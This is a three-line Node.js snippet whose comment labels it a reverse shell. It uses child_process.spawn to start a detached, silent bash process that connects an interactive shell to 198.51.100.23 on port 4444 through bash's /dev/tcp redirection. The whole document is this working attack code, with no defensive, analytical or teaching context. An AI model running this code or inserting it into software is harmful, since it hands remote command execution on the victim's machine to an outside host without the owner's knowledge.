// reverse-shell: bash's /dev/tcp redirection started from node
const { spawn } = require('child_process');
spawn('bash', ['-c', 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'], { detached: true, stdio: 'ignore' }).unref();
